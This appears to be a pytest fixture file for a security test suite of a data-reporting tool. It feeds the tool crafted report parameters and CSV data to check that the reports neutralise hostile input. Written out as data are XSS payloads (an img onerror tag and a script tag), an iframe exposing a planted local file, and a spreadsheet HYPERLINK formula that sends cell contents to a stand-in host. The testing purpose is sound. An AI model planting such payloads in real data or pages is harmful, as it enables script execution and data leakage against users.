"""Crafted runs shared by the security corpus: one per workbook, many checks on each.

Each run goes through the CLI into a folder whose name is distinctive
(``improve-secret-folder-...``) so that item 6 can grep every output for it.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest

from .harness import DEMO, plant_local_file, run_crafted

#: A subgroup name that a spreadsheet would run as a formula (issue #23 item 3).
FORMULA_SUBGROUP = '=HYPERLINK("http://example.invalid/?leak="&A3,"click me")'


@pytest.fixture(scope="session")
def secret_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a distinctive name holding the crafted data (item 6 greps for it)."""
    return tmp_path_factory.mktemp("improve-secret-folder-")


@pytest.fixture(scope="session")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The local file crafted inputs try to leak (kept apart from the secret folder: its
    path is part of a crafted column name, i.e. of the data)."""
    return plant_local_file(tmp_path_factory.mktemp("planted"))


@pytest.fixture(scope="session")
def iframe_tag(planted: Path) -> str:
    """An iframe showing the planted local file, as a partner's column or label could hold."""
    return f"<iframe src={planted.as_uri()} width=800 height=400></iframe>"


@pytest.fixture(scope="session")
def did_run(tmp_path_factory: pytest.TempPathFactory, iframe_tag: str) -> Path:
    """did_evaluation with script and file injections in program, unit and outcome labels."""
    out = tmp_path_factory.mktemp("reports-did")
    return run_crafted(
        "did_evaluation",
        out,
        params={
            "program": "<img src=x onerror=alert('program')>",
            "unit_label": iframe_tag,
            "outcome_labels": "{math_ss: '<script>alert(\"outcome\")</script>'}",
            "outcomes": "[math_ss]",
        },
    )


@pytest.fixture(scope="session")
def event_study_run(tmp_path_factory: pytest.TempPathFactory, iframe_tag: str) -> Path:
    """event_study_diagnostics with a file iframe in ``units``."""
    out = tmp_path_factory.mktemp("reports-es")
    return run_crafted(
        "event_study_diagnostics",
        out,
        params={"units": iframe_tag, "outcome": "math_ss"},
    )


@pytest.fixture(scope="session")
def evidence_run(secret_folder: Path, iframe_tag: str) -> Path:
    """evidence_summary on a partner's file: an outcome column NAMED as an iframe tag and a
    subgroup named as a spreadsheet formula, all under the distinctive folder."""
    data = pd.read_csv(DEMO / "schools.csv", dtype={"district_id": str, "school_id": str})
    data = data.rename(columns={"math_ss": iframe_tag})
    data.to_csv(secret_folder / "schools.csv", index=False)
    (secret_folder / "columns.yaml").write_text(
        "unit: school_id\ntime: school_year\ncohort: first_grant_year\ncluster: district_id\n"
        f"outcomes: [{iframe_tag!r}, reading_ss]\n",
        encoding="utf-8",
    )
    groups = pd.read_csv(DEMO / "subgroups.csv", dtype=str)
    groups["subgroup"] = groups["subgroup"].replace({"econ_disadv": FORMULA_SUBGROUP})
    groups.to_csv(secret_folder / "subgroups.csv", index=False)
    shutil.copy(DEMO / "subgroups.yaml", secret_folder / "subgroups.yaml")
    return run_crafted(
        "evidence_summary",
        secret_folder / "reports",
        data=secret_folder / "schools.csv",
        columns=secret_folder / "columns.yaml",
        params={
            "subgroup_path": str(secret_folder / "subgroups.csv"),
            "subgroup_map": str(secret_folder / "subgroups.yaml"),
            "subgroup_outcome": "reading_ss",
        },
        cwd=secret_folder,
    )
